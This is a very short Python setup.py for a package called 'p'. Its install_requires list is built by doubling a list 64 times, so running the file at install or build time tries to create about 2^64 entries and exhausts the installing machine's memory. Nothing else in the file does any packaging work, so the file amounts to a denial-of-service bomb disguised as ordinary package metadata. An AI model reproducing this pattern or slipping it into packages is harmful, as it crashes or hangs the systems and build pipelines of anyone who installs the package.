from setuptools import setup, find_packages
s = ['x' * 5]
for i in range(64):
    s = s + s
setup(name='p', install_requires=s)
